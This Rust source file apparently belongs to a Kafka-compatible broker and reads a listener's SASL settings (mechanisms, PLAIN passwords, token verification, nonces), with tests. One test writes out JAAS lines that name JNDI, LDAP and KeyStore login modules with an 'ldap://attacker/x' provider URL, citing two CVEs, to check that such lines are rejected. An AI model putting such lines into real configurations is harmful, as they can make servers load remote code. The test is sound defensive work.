//! What one listener asks of whoever comes by SASL: mechanisms, the users of PLAIN, who signs tokens, limits. Read once, from the file and from
//! JAAS; users of SCRAM are in the metadata. Owns the passwords of PLAIN, and shows them to nobody.

use std::collections::BTreeMap;
use std::fmt;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use wire::base64::STANDARD;
use wire::sasl::jaas::{self, BEARER_MODULE, Contexts, Entry, PLAIN_MODULE, SCRAM_MODULE};
use wire::sasl::scram::Mechanism as Hash;
use wire::sasl::server::{Mechanism, Who};

use super::bearer::Verifier;
use crate::config::{BrokerFile, OfListener, list};

/// What a listener asks.
pub struct SaslTerms {
    /// In the order in which they are told.
    offered: Vec<Offered>,
    /// Passwords of PLAIN by user.
    passwords: BTreeMap<String, String>,
    /// Whom tokens of OAUTHBEARER name; there is one where that is offered.
    verifier: Option<Arc<Verifier>>,
    /// `sasl.server.max.receive.size`
    pub max_receive_bytes: usize,
    /// `connection.failed.authentication.delay.ms`
    pub failed_delay_ms: i64,
    /// What nonces and disguises are drawn from.
    secret: [u8; 32],
    drawn: AtomicU64,
}

#[derive(Debug)]
struct Offered {
    mechanism: Mechanism,
    /// `connections.max.reauth.ms`; `None`: once is for ever.
    max_reauth_ms: Option<i64>,
}

impl fmt::Debug for SaslTerms {
    /// Passwords never reach a log.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "SaslTerms({:?}, {} users of PLAIN)", self.offered, self.passwords.len())
    }
}

impl SaslTerms {
    /// What the file says of a listener. `secret`: bytes that nobody else knows. The error is a sentence; it never says a password.
    pub fn read(
        file: &BrokerFile,
        listener: &str,
        contexts: &Contexts,
        secret: [u8; 32],
    ) -> Result<SaslTerms, String> {
        let of = file.of_listener(listener);
        let names = list(of.text("sasl.enabled.mechanisms").unwrap_or_default());
        if names.is_empty() {
            return Err(format!(
                "listener {listener} speaks SASL, and sasl.enabled.mechanisms names no mechanism"
            ));
        }
        let (mut offered, mut passwords, mut verifier) = (Vec::new(), BTreeMap::new(), None);
        for name in names {
            let mechanism = served(listener, name)?;
            let entry = entry(&of, listener, mechanism, contexts)?;
            if mechanism == Mechanism::OauthBearer {
                let read = Verifier::read(&of, &entry.options)
                    .map_err(|why| format!("listener {listener}: {why}"))?;
                verifier = Some(Arc::new(read));
            }
            if mechanism == Mechanism::Plain {
                let user = |(key, value): (&String, &String)| {
                    Some((key.strip_prefix("user_")?.to_owned(), value.clone()))
                };
                passwords.extend(entry.options.iter().filter_map(user));
            }
            let longest = of.of_mechanism(mechanism.name(), "connections.max.reauth.ms");
            let longest = longest.and_then(|text| text.parse().ok()).filter(|longest| *longest > 0);
            offered.push(Offered { mechanism, max_reauth_ms: longest });
        }
        let max_receive = of.text("sasl.server.max.receive.size").and_then(|text| text.parse().ok());
        Ok(SaslTerms {
            offered,
            passwords,
            verifier,
            max_receive_bytes: max_receive.unwrap_or(0),
            failed_delay_ms: file.number("connection.failed.authentication.delay.ms"),
            secret,
            drawn: AtomicU64::new(0),
        })
    }

    /// Names of what is offered, in order.
    pub(super) fn names(&self) -> impl Iterator<Item = &'static str> {
        self.offered.iter().map(|one| one.mechanism.name())
    }

    /// The mechanism of this name, if it is offered.
    pub(super) fn offers(&self, name: &str) -> Option<Mechanism> {
        self.offered.iter().map(|one| one.mechanism).find(|one| one.name() == name)
    }

    /// How long a session lasts.
    pub(super) fn max_reauth_ms(&self, mechanism: Mechanism) -> Option<i64> {
        self.offered.iter().find(|one| one.mechanism == mechanism)?.max_reauth_ms
    }

    /// The password of a user of PLAIN.
    pub(super) fn password(&self, username: &str) -> Option<&str> {
        self.passwords.get(username).map(String::as_str)
    }

    /// What tokens of OAUTHBEARER are held against, where that is offered.
    pub fn verifier(&self) -> Option<&Arc<Verifier>> {
        self.verifier.as_ref()
    }

    /// Whom a token of OAUTHBEARER names.
    pub(super) fn bearer(&self, token: &str, wall_ms: i64) -> Result<Who, String> {
        let Some(verifier) = &self.verifier else { return Err("nobody can verify it".to_owned()) };
        verifier.verify(token, wall_ms)
    }

    /// A server's part of a nonce; none comes twice.
    pub(super) fn nonce(&self) -> String {
        let number = self.drawn.fetch_add(1, Ordering::Relaxed).to_be_bytes();
        let drawn = Hash::Sha256.signature(&self.secret, &[&b"nonce"[..], &number].concat());
        STANDARD.encode(&drawn)
    }

    /// What stands in for the salt of a user who is not there.
    pub(super) fn disguise(&self, username: &str) -> [u8; 32] {
        let drawn = Hash::Sha256.signature(&self.secret, &[b"salt", username.as_bytes()].concat());
        drawn.first_chunk().copied().unwrap_or_default()
    }
}

pub(super) fn served(listener: &str, name: &str) -> Result<Mechanism, String> {
    Mechanism::named(name).ok_or_else(|| {
        format!(
            "the SASL mechanism {name} (listener {listener}) is not served here: PLAIN, SCRAM-SHA-256, SCRAM-SHA-512 and OAUTHBEARER are, and \
             sasl.enabled.mechanisms is GSSAPI where nothing is set"
        )
    })
}

/// The entry of a mechanism: the listener's own key, else the file's context of this listener or of all.
pub(super) fn entry(
    of: &OfListener<'_>,
    listener: &str,
    mechanism: Mechanism,
    contexts: &Contexts,
) -> Result<Entry, String> {
    let prefix = format!("listener.name.{}", listener.to_lowercase());
    let key = format!("{prefix}.{}.sasl.jaas.config", mechanism.name().to_lowercase());
    let module = match mechanism {
        Mechanism::Plain => PLAIN_MODULE,
        Mechanism::ScramSha256 | Mechanism::ScramSha512 => SCRAM_MODULE,
        Mechanism::OauthBearer => BEARER_MODULE,
    };
    if let Some(text) = of.own_of_mechanism(mechanism.name(), "sasl.jaas.config") {
        let entries = jaas::parse_config(text).map_err(|why| format!("{key} cannot be read: {why}"))?;
        return match <[Entry; 1]>::try_from(entries) {
            Ok([entry]) if entry.module == module => Ok(entry),
            Ok([entry]) => Err(format!(
                "{key} names the login module {}, and {} needs {module}",
                entry.module,
                mechanism.name()
            )),
            Err(entries) => Err(format!(
                "JAAS config property contains {} login modules, should be 1 module ({key})",
                entries.len()
            )),
        };
    }
    let own = format!("{}.KafkaServer", listener.to_lowercase());
    let context = contexts.get(&own).or_else(|| contexts.get("KafkaServer"));
    let found = context.and_then(|entries| entries.iter().find(|entry| entry.module == module));
    // Who tokens name is not said by JAAS: Kafka wants the bare line, and here it may be left out.
    if mechanism == Mechanism::OauthBearer && found.is_none() {
        return Ok(Entry { module: module.to_owned(), options: BTreeMap::new() });
    }
    found.cloned().ok_or_else(|| {
        format!(
            "listener {listener} offers {}, and nothing says who its users are: neither {key} nor {module} in the context '{own}' or \
             'KafkaServer' of a JAAS file",
            mechanism.name()
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Values;

    fn read(lines: &[(&str, &str)], contexts: &str) -> Result<SaslTerms, String> {
        let values: Values =
            lines.iter().map(|(key, value)| ((*key).to_owned(), (*value).to_owned())).collect();
        let (file, _) = BrokerFile::new(values).unwrap();
        SaslTerms::read(&file, "CLIENTS", &jaas::parse_file(contexts).unwrap(), [1; 32])
    }

    const LISTENERS: (&str, &str) = ("listeners", "CLIENTS://:9092");
    const PLAIN: &str =
        "org.apache.kafka.common.security.plain.PlainLoginModule required user_a=sesame user_b=y;";

    #[test]
    fn users_are_those_of_the_listeners_own_entry_or_of_the_file() {
        let own = ("listener.name.clients.plain.sasl.jaas.config", PLAIN);
        let mechanisms = ("listener.name.clients.sasl.enabled.mechanisms", "PLAIN");
        let terms = read(&[LISTENERS, mechanisms, own], "").unwrap();
        assert_eq!(
            (terms.password("a"), terms.password("c"), terms.max_receive_bytes),
            (Some("sesame"), None, 524_288)
        );
        assert_eq!(terms.max_reauth_ms(Mechanism::Plain), None);
        assert!(!format!("{terms:?}").contains("sesame"));
        let file =
            format!("KafkaServer {{ {SCRAM_MODULE} required; {PLAIN} }}; clients.KafkaServer {{ {PLAIN} }};");
        let reauth = [
            ("connections.max.reauth.ms", "5"),
            ("listener.name.clients.plain.connections.max.reauth.ms", "7"),
        ];
        let terms = read(&[LISTENERS, mechanisms, reauth[0], reauth[1]], &file).unwrap();
        assert_eq!((terms.password("b"), terms.max_reauth_ms(Mechanism::Plain)), (Some("y"), Some(7)));
        let both = ("sasl.enabled.mechanisms", "SCRAM-SHA-512,PLAIN");
        let why = read(&[LISTENERS, both], &file).unwrap_err();
        assert!(why.contains("SCRAM-SHA-512"), "the listener's own context goes before the other: {why}");
        let terms = read(&[LISTENERS, both], &format!("KafkaServer {{ {SCRAM_MODULE} required; {PLAIN} }};"))
            .unwrap();
        assert_eq!(terms.names().collect::<Vec<_>>(), ["SCRAM-SHA-512", "PLAIN"]);
    }

    #[test]
    fn whoever_could_not_be_checked_is_not_let_in_by_a_start() {
        let key = "listener.name.clients.plain.sasl.jaas.config";
        let plain = ("sasl.enabled.mechanisms", "PLAIN");
        let cases: [(&[(&str, &str)], &str); 6] = [
            (&[LISTENERS], "GSSAPI"),
            (&[LISTENERS, ("sasl.enabled.mechanisms", "OAUTHBEARER")], "nothing says who signs"),
            (&[LISTENERS, ("sasl.enabled.mechanisms", "")], "no mechanism"),
            (&[LISTENERS, plain], "nothing says who its users are"),
            (&[LISTENERS, plain, (key, "x.Y required user_a=secret;")], "needs org.apache"),
            (&[LISTENERS, plain, (key, "x.Y required user_a=\"secret")], "cannot be read"),
        ];
        for (lines, expected) in cases {
            let why = read(lines, "").unwrap_err();
            assert!(why.contains(expected) && !why.contains("secret"), "{why}");
        }
    }

    /// A line of JAAS is how others were made to load classes and to ask directories (CVE-2023-25194, CVE-2025-27818).
    #[test]
    fn only_a_mechanisms_own_module_is_taken() {
        for mechanism in ["PLAIN", "SCRAM-SHA-256", "SCRAM-SHA-512", "OAUTHBEARER"] {
            let key = format!("listener.name.clients.{}.sasl.jaas.config", mechanism.to_lowercase());
            for module in [
                "com.sun.security.auth.module.JndiLoginModule",
                "com.sun.security.auth.module.LdapLoginModule",
                "com.sun.security.auth.module.KeyStoreLoginModule",
            ] {
                let line = format!("{module} required user.provider.url=\"ldap://attacker/x\";");
                let lines =
                    [LISTENERS, ("sasl.enabled.mechanisms", mechanism), (key.as_str(), line.as_str())];
                let why = read(&lines, "").unwrap_err();
                assert!(why.contains(module) && why.contains("needs org.apache"), "{mechanism}: {why}");
                assert!(!why.contains("attacker"), "{why}");
            }
        }
    }

    #[test]
    fn nonces_differ_and_disguises_do_not() {
        let own = ("listener.name.clients.plain.sasl.jaas.config", PLAIN);
        let terms = read(&[LISTENERS, ("sasl.enabled.mechanisms", "PLAIN"), own], "").unwrap();
        assert_ne!(terms.nonce(), terms.nonce());
        assert_eq!(terms.disguise("a"), terms.disguise("a"));
        assert_ne!(terms.disguise("a"), terms.disguise("b"));
    }
}
